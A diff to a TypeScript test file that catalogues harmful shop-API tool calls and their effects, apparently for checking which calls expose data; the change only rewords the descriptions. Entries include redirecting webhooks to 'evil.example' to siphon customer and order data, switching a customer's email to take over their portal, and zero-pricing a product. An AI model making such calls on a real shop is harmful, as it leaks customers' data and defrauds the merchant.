@@ -21,13 +21,13 @@ export const exposingCalls = (ids: ShopIds): readonly ExposingCall[] => [
     'a webhook endpoint at any address',
     'create_webhook_endpoint',
     { url: EVIL, format: 'raw', events: ['order.created', 'customer.updated'] },
-    '"evil.example" gets each order.created, customer.updated from then on, with all that it says of customers and orders.',
+    '"evil.example" gets each order.created, customer.updated from now on, with all that it says of customers and orders.',
   ],
   [
     'the live endpoint, moved',
     'update_webhook_endpoint',
     { id: ids.webhookEndpoint, url: EVIL },
-    '"evil.example" gets each order.created, order.paid, subscription.created, subscription.canceled from then on, with all that it says of customers and orders, and "hooks.brightside-tools.example.com" no more.',
+    '"evil.example" gets each order.created, order.paid, subscription.created, subscription.canceled from now on, with all that it says of customers and orders, and "hooks.brightside-tools.example.com" no longer does.',
   ],
   [
     'a discount of all, for ever',
@@ -51,7 +51,7 @@ export const exposingCalls = (ids: ShopIds): readonly ExposingCall[] => [
     'a customer’s email, changed',
     'update_customer',
     { external_customer_id: ids.customerExternalId, email: 'eve@polar.sh' },
-    'The portal of this customer is entered with "eve@polar.sh" from then on, and with "maja.berg@example.com" no more.',
+    'The portal of this customer opens with "eve@polar.sh" from now on, and no longer with "maja.berg@example.com".',
   ],
   [
     'a checkout link that leads to another site',
@@ -84,7 +84,7 @@ export const exposingCalls = (ids: ShopIds): readonly ExposingCall[] => [
     'a product for nothing',
     'update_product',
     { id: ids.product, prices: [{ amount_type: 'fixed', price_amount: 0, price_currency: 'usd' }] },
-    'Anyone can buy it for nothing from then on.',
+    'Anyone can buy it for nothing from now on.',
   ],
   [
     'a license key that is limited no more',
